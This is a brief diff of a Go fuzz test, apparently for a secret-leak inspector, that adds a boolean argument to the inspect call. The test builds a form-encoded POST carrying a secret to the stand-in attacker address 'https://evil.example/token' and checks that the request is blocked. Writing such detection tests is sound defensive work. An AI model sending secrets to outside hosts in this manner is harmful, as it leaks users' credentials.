@@ -163,7 +163,7 @@ func FuzzSecretInForm(f *testing.F) {
 			value = url.QueryEscape(value)
 		}
 		body := "grant_type=x&" + url.Values{name: {before + value + after}}.Encode()
-		if _, err := n.inspect(newRequest("POST", "https://evil.example/token", body)); err == nil {
+		if _, err := n.inspect(newRequest("POST", "https://evil.example/token", body), false); err == nil {
 			t.Fatalf("let through: %q", body)
 		}
 	})
